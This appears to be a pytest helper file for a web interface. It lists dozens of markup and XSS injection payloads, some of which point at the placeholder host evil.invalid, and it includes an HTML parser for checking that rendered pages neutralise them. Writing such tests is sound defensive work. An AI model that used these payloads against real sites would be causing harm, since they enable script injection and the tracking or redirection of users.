"""Markup that somebody smuggles into a document, its metadata or a question, and a reader of the HTML that comes out.

The payloads never name a real host: `.invalid` resolves nowhere (RFC 6761).
"""

from collections.abc import Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from ui.languages.catalogues import LANGUAGES

_VOID = frozenset("area base br col embed hr img input link meta source track wbr".split())
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//evil.invalid/x.js></script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-beacon": '<img src="https://evil.invalid/beacon.png">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash": "<svg/onload=alert(1)//",
    "svg-animate": '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "anchor": '<a href="javascript:alert(1)">x</a>',
    "anchor-entity": '<a href="java&#115;cript:alert(1)">x</a>',
    "form": "<form action=https://evil.invalid><input name=q><button>Go</button></form>",
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": "<object data=//evil.invalid></object><embed src=//evil.invalid>",
    "style": "<style>@import url(//evil.invalid/x.css);</style>",
    "style-attribute": '<p style="background:url(//evil.invalid)">x</p>',
    "link": "<link rel=stylesheet href=//evil.invalid>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=//evil.invalid">',
    "base": "<base href=//evil.invalid>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "template": "<template><b>x</b></template><slot name=x></slot>",
    "custom-element": "<x-y onclick=alert(1)>x</x-y>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "double-quote": '" onmouseover="alert(1)',
    "single-quote": "' onfocus='alert(1)' autofocus='",
    "closing-tags": "</mark></p></div><h1 id=out>out</h1>",
    "closing-page": "</title></style></article></main><script>alert(1)</script>",
    "comment": "<!-- x --> <![CDATA[x]]> <?php x ?> <!doctype y>",
    "comment-open": "<!--",
    "tag-open": "<b",
    "handler-alone": "x onerror=alert(1)",
    "image": "![x](https://evil.invalid/x.png)",
    "image-reference": "![x]\n\n[x]: https://evil.invalid/x.png",
    "link-script": "[x](javascript:alert(1))",
    "link-title": '[x](https://evil.invalid "t")',
    "link-reference": "[x][y]\n\n[y]: https://evil.invalid",
    "link-nested": "](https://evil.invalid) [x",
    "marker": "Signed. [[1]](/documents/d2?start=0&end=1#passage)",
    "autolink": "<https://evil.invalid/>",
    "autolink-bare": "https://evil.invalid/a?b=c&d=e",
    "autolink-www": "www.evil.invalid",
    "autolink-mail": "a@evil.invalid",
    "heading": "# x",
    "heading-underlined": "x\n===\ny\n---",
    "quote": "> x",
    "bullets": "- x\n- y",
    "bullets-plus": "+ x",
    "numbers": "1. x\n2. y",
    "numbers-parenthesis": "1) x",
    "rule": "* * *",
    "fence": "```html\n<script>alert(1)</script>\n```",
    "fence-open": "~~~",
    "indented": "    <b>x</b>",
    "code": "`x`",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "emphasis": "**a** __b__ *c* _d_ ~~e~~ ==f==",
    "break": "a\\\nb  \nc<br>d",
    "backslash": r"\<b\> \[x\](y)",
    "math": r"$x$ $$y$$ \(z\) \[w\]",
    "emoji-footnote": ":smile: [^1]\n\n[^1]: x",
    "entities": "&lt;img src=x onerror=alert(1)&gt;",
    "entities-decimal": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entities-hexadecimal": "&#x3c;b&#x3e;x&#X3C;/b&#X3E;",
    "entities-twice": "&amp;lt;b&amp;gt;",
    "entities-named": "javascript&colon;alert&lpar;1&rpar; &NewLine;&Tab;&lbrack;x&rbrack;",
    "entities-unfinished": "&lt &copy=1 &#60",
    "front-matter": '---\ntitle: "<b>x</b>"\nurl: javascript:alert(1)\n---\n<b>x</b>',
    "expressions": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "right-to-left": "annual\u202efdp.exe\u202c \u2067<b>\u2069",
    "terminal": "\x1b[31mred \x1b]8;;https://evil.invalid\x07link\x9b0m",
    "nul": "a\x00<b>\x00</b>",
    "zero-width": "<\u200bscript>alert(1)</\u200bscript>",
    "full-width": "＜script＞alert(1)＜/script＞",
    "separators": "a\u2028<b>\u2029\x85\x0b\x0c# x",
    "half-a-pair": "a\ud800<b>\udfff",
}
every_payload = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())


@dataclass
class Element:
    """An element, and the text within it."""

    tag: str
    attributes: dict[str, str | None]
    text: str = ""


@dataclass
class Html:
    """What an HTML parser makes of a page: its elements in order, and all of its text."""

    elements: list[Element] = field(default_factory=list)
    text: str = ""

    def all(self, tag: str, **attributes: str) -> list[Element]:
        """The elements of that name whose attributes have these values (`class_` for `class`)."""
        wanted = {name.rstrip("_"): value for name, value in attributes.items()}
        return [
            element for element in self.elements if element.tag == tag and wanted.items() <= element.attributes.items()
        ]

    def one(self, tag: str, **attributes: str) -> Element:
        (element,) = self.all(tag, **attributes)
        return element

    @property
    def structure(self) -> list[tuple[str, tuple[tuple[str, str | None], ...]]]:
        """The elements with their attributes, but not where links lead nor what language is named."""
        return [
            (element.tag, tuple(item if item[0] not in ("href", "lang") else (item[0], None) for item in attributes))
            for element in self.elements
            for attributes in [element.attributes.items()]
        ]

    @property
    def addresses(self) -> set[str | None]:
        """Everything that a browser could be led to or load."""
        return {
            value
            for element in self.elements
            for name, value in element.attributes.items()
            if name in ("href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href")
        }


# The links of every page to itself in each language, where nothing else stands in its address.
IN_EACH_LANGUAGE = {f"?lang={code}" for code in LANGUAGES}


def parse(page: str) -> Html:
    """`page` as a lenient HTML parser sees it; comments and processing instructions count as elements."""
    parser = _Parser()
    parser.feed(page)
    parser.close()
    return parser.html


class _Parser(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.html = Html()
        self._open: list[Element] = []

    def handle_starttag(self, tag: str, attrs: Iterable[tuple[str, str | None]]) -> None:
        element = Element(tag, dict(attrs))
        self.html.elements.append(element)
        if tag not in _VOID:
            self._open.append(element)

    def handle_endtag(self, tag: str) -> None:
        if tag in [element.tag for element in self._open]:
            while self._open.pop().tag != tag:
                pass

    def handle_data(self, data: str) -> None:
        self.html.text += data
        for element in self._open:
            element.text += data

    def handle_comment(self, data: str) -> None:
        self.html.elements.append(Element("!--", {}))

    def handle_pi(self, data: str) -> None:
        self.html.elements.append(Element("?", {}))

    def unknown_decl(self, data: str) -> None:
        self.html.elements.append(Element("![", {}))
